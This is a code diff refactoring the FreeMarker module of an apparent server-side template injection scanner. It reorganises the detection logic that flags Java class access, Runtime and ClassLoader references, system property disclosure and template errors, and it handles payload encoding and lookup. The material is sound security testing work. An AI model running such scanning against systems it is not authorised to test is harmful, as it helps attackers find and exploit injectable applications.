-                    is_vulnerable = True
-                    break
+        evidence_parts: List[str] = []
+        rank: int = _RANK_LOW
+        is_vulnerable: bool = False
         
-        # Object disclosure detection
-        for pattern in self.detection_patterns['object_disclosure']:
-            if re.search(pattern, response, re.IGNORECASE):
-                evidence_parts.append(f"Object disclosure detected: {pattern}")
-                confidence = max(confidence, ConfidenceLevel.HIGH)
-                is_vulnerable = True
-        
-        # Variable disclosure detection
-        for pattern in self.detection_patterns['variable_disclosure']:
-            if re.search(pattern, response, re.IGNORECASE):
-                evidence_parts.append(f"Variable disclosure detected: {pattern}")
-                confidence = max(confidence, ConfidenceLevel.MEDIUM)
-                is_vulnerable = True
+        # Strongest indicators come first; stop at _SUFFICIENT_EVIDENCE
+        for level, message in self._iter_indicators(checks, payload_lower, response, response_lower):
+            evidence_parts.append(message)
+            if level > rank:
+                rank = level
+            is_vulnerable = True
+            if rank == _RANK_HIGH and len(evidence_parts) >= _SUFFICIENT_EVIDENCE:
+                break
         
-        # Built-in function detection
-        for pattern in self.detection_patterns['built_ins']:
-            if re.search(pattern, response, re.IGNORECASE):
-                evidence_parts.append(f"Built-in function executed: {pattern}")
-                confidence = max(confidence, ConfidenceLevel.HIGH)
-                is_vulnerable = True
-        
-        # FreeMarker-specific error messages
-        freemarker_errors = [
-            'freemarker.template.TemplateException',
-            'freemarker.core.ParseException',
-            'freemarker.core.InvalidReferenceException',
-            'Expression.*?is undefined',
-            'The following has evaluated to null or missing',
-            'Error reading included file',
-            'For.*?directive',
-            'Expecting.*?but found',
-        ]
+        # Compile evidence
+        if evidence_parts:
+            evidence: str = "FreeMarker SSTI detected: " + "; ".join(evidence_parts)
+        else:
+            evidence = "No FreeMarker SSTI indicators found"
+            
+        return EngineResult(
+            is_vulnerable=is_vulnerable,
+            confidence=_CONFIDENCE_BY_RANK[rank],
+            payload=payload,
+            response=response_snippet,
+            evidence=evidence,
+            engine=self.name
+        )
+    
+    def _iter_indicators(self, checks: int, payload_lower: str,
+                         response: str, response_lower: str) -> Iterator[Tuple[int, str]]:
+        """
+        Yield (confidence rank, evidence) pairs for every FreeMarker indicator found.
         
-        for error in freemarker_errors:
-            if re.search(error, response, re.IGNORECASE):
-                evidence_parts.append(f"FreeMarker error detected: {error}")
-                confidence = max(confidence, ConfidenceLevel.MEDIUM)
-                is_vulnerable = True
+        Groups are ordered by expected selectivity and strength: payload-gated
+        HIGH checks first, then unconditional HIGH checks, then MEDIUM ones.
+        """
+        # Math operation detection
+        if checks & _CHECK_MATH:
+            for pattern, regex in _COMPILED_DETECTION_PATTERNS['math_result']:
+                if regex.search(response):
+                    yield _RANK_HIGH, f"Mathematical operation executed: found {pattern}"
+                    break
         
         # Java-specific indicators
-        java_indicators = [
-            'java.lang.Class',
-            'java.lang.Runtime',
-            'java.lang.System',
-            'java.io.File',
-            'java.util.',
-            'Method.*?invoke',
-            'ClassLoader',
-            'AccessController',
-        ]
+        for indicator, indicator_lower in _JAVA_INDICATOR_LITERALS:
+            if indicator_lower in response_lower:
+                yield _RANK_HIGH, f"Java class access detected: {indicator}"
         
-        for indicator in java_indicators:
-            if re.search(indicator, response, re.IGNORECASE):
-                evidence_parts.append(f"Java class access detected: {indicator}")
-                confidence = max(confidence, ConfidenceLevel.HIGH)
-                is_vulnerable = True
+        for literal, indicator, regex in _JAVA_INDICATOR_PATTERNS:
+            if literal in response_lower and regex.search(response):
+                yield _RANK_HIGH, f"Java class access detected: {indicator}"
+        
+        # Check for directive execution
+        if checks & _CHECK_DIRECTIVE:
+            for pattern, regex in _COMPILED_DETECTION_PATTERNS['directive_execution']:
+                if regex.search(response):
+                    yield _RANK_HIGH, f"Directive execution detected: {pattern}"
         
         # Check for successful built-in variable access
-        if any(var in payload for var in ['.data_model', '.globals', '.template_name', '.version']):
-            builtin_patterns = [
-                r'TemplateHashModel',
-                r'freemarker\.template',
-                r'FreeMarker.*?\d+\.\d+',
-                r'data.*?model',
-                r'template.*?name',
-            ]
-            
-            for pattern in builtin_patterns:
-                if re.search(pattern, response, re.IGNORECASE):
-                    evidence_parts.append(f"Built-in variable access: {pattern}")
-                    confidence = max(confidence, ConfidenceLevel.HIGH)
-                    is_vulnerable = True
+        if checks & _CHECK_BUILTIN_VAR:
+            for pattern, regex in _BUILTIN_VARIABLE_PATTERNS:
+                if regex.search(response):
+                    yield _RANK_HIGH, f"Built-in variable access: {pattern}"
         
         # Check for Class access
-        if 'Class' in payload:
-            class_patterns = [
-                r'class java\.',
-                r'java\.lang\.Class',
-                r'ClassLoader',
-                r'getMethod',
-                r'newInstance',
-                r'invoke',
-            ]
-            
-            for pattern in class_patterns:
-                if re.search(pattern, response, re.IGNORECASE):
-                    evidence_parts.append(f"Class access detected: {pattern}")
-                    confidence = max(confidence, ConfidenceLevel.HIGH)
-                    is_vulnerable = True
+        if checks & _CHECK_CLASS:
+            for pattern, regex in _CLASS_ACCESS_PATTERNS:
+                if regex.search(response):
+                    yield _RANK_HIGH, f"Class access detected: {pattern}"
         
         # Check for string manipulation results
-        if any(func in payload.lower() for func in ['upper_case', 'lower_case', 'length', 'cap_first']):
+        if checks & _CHECK_STRING_BUILTIN:
             if 'TEST' in response or 'test' in response:
                 # Check if transformation was applied
-                if ('upper_case' in payload.lower() and 'TEST' in response) or \
-                   ('lower_case' in payload.lower() and 'test' in response) or \
-                   ('cap_first' in payload.lower() and 'Test' in response):
-                    evidence_parts.append("String manipulation function executed")
-                    confidence = max(confidence, ConfidenceLevel.HIGH)
-                    is_vulnerable = True
-        
-        # Check for directive execution
-        if any(directive in payload for directive in ['<#assign', '<#function', '<#macro', '<#list']):
-            for pattern in self.detection_patterns['directive_execution']:
-                if re.search(pattern, response, re.IGNORECASE):
-                    evidence_parts.append(f"Directive execution detected: {pattern}")
-                    confidence = max(confidence, ConfidenceLevel.HIGH)
-                    is_vulnerable = True
+                if ('upper_case' in payload_lower and 'TEST' in response) or \
+                   ('lower_case' in payload_lower and 'test' in response) or \
+                   ('cap_first' in payload_lower and 'Test' in response):
+                    yield _RANK_HIGH, "String manipulation function executed"
         
         # System property disclosure
-        system_props = [
-            'java.version',
-            'user.name',
-            'os.name',
-            'java.home',
-            'user.dir',
-        ]
+        disclosed: Set[str] = set(_SYSTEM_PROPERTY_REGEX.findall(response))
+        for prop in _SYSTEM_PROPERTIES:
+            if prop in disclosed:
+                yield _RANK_HIGH, f"System property disclosed: {prop}"
         
-        for prop in system_props:
-            if prop in response:
-                evidence_parts.append(f"System property disclosed: {prop}")
-                confidence = max(confidence, ConfidenceLevel.HIGH)
-                is_vulnerable = True
+        # Object disclosure detection
+        for pattern, regex in _COMPILED_DETECTION_PATTERNS['object_disclosure']:
+            if regex.search(response):
+                yield _RANK_HIGH, f"Object disclosure detected: {pattern}"
         
-        # Compile evidence
-        if evidence_parts:
-            evidence = "FreeMarker SSTI detected: " + "; ".join(evidence_parts)
-        else:
-            evidence = "No FreeMarker SSTI indicators found"
-            
-        return EngineResult(
-            is_vulnerable=is_vulnerable,
-            confidence=confidence,
-            payload=payload,
-            response=response[:500],  # Limit response size
-            evidence=evidence,
-            engine=self.name
-        )
+        # Built-in function detection
+        for pattern, regex in _COMPILED_DETECTION_PATTERNS['built_ins']:
+            if regex.search(response):
+                yield _RANK_HIGH, f"Built-in function executed: {pattern}"
+        
+        # Variable disclosure detection
+        for pattern, regex in _COMPILED_DETECTION_PATTERNS['variable_disclosure']:
+            if regex.search(response):
+                yield _RANK_MEDIUM, f"Variable disclosure detected: {pattern}"
+        
+        # FreeMarker-specific error messages
+        for error, error_lower in _FREEMARKER_ERROR_LITERALS:
+            if error_lower in response_lower:
+                yield _RANK_MEDIUM, f"FreeMarker error detected: {error}"
+        
+        for literal, error, regex in _FREEMARKER_ERROR_PATTERNS:
+            if literal in response_lower and regex.search(response):
+                yield _RANK_MEDIUM, f"FreeMarker error detected: {error}"
     
-    def get_payloads_for_context(self, context: str) -> List[Payload]:
-        """Get payloads suitable for a specific context."""
-        return [p for p in self.payloads if p.context == context]
+    def get_payloads_for_context(self, context: str) -> Tuple[Payload, ...]:
+        """Get payloads suitable for a specific context (read-only tuple)."""
+        return _PAYLOADS_BY_CONTEXT.get(context, ())
     
-    def get_payloads_by_type(self, payload_type: str) -> List[Payload]:
-        """Get payloads of a specific type."""
-        return [p for p in self.payloads if p.type == payload_type]
+    def get_payloads_by_type(self, payload_type: str) -> Tuple[Payload, ...]:
+        """Get payloads of a specific type (read-only tuple)."""
+        return _PAYLOADS_BY_TYPE.get(payload_type, ())
     
     def encode_payload(self, payload: str, context: str) -> str:
         """
@@ -592,11 +766,11 @@ class FreemarkerEngine(BaseTemplateEngine):
         if context == "url":
             return urllib.parse.quote(payload)
         elif context == "html":
-            return payload.replace('<', '&lt;').replace('>', '&gt;').replace('"', '&quot;')
+            return payload.translate(_HTML_ESCAPE_TABLE)
         elif context == "attribute":
-            return payload.replace('"', '&quot;').replace("'", '&#x27;')
+            return payload.translate(_ATTRIBUTE_ESCAPE_TABLE)
         elif context == "javascript":
-            return payload.replace('\\', '\\\\').replace('"', '\\"').replace("'", "\\'")
+            return payload.translate(_JAVASCRIPT_ESCAPE_TABLE)
         else:
             return payload
     
@@ -606,8 +780,8 @@ class FreemarkerEngine(BaseTemplateEngine):
             'name': self.name,
             'description': self.description,
             'payloads': len(self.payloads),
-            'contexts': list(set(p.context for p in self.payloads)),
-            'types': list(set(p.type for p in self.payloads)),
+            'contexts': list(_PAYLOADS_BY_CONTEXT),
+            'types': list(_PAYLOADS_BY_TYPE),
             'framework': 'Java',
             'language': 'Java',
             'syntax': '${expression} and <#directive>'